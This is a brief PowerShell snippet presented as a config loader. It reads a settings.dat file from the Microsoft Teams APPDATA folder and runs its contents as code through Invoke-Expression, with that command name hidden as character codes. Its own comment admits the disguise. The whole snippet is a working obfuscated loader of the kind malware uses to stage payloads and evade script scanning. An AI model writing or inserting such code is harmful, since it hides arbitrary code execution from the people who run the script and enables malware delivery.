# looks like a config loader; the command is spelled out in char codes
$cfg = Get-Content -Path "$env:APPDATA\Microsoft\Teams\settings.dat" -Raw
$n = -join [char[]](73, 110, 118, 111, 107, 101, 45, 69, 120, 112, 114, 101, 115, 115, 105, 111, 110)
& $n $cfg
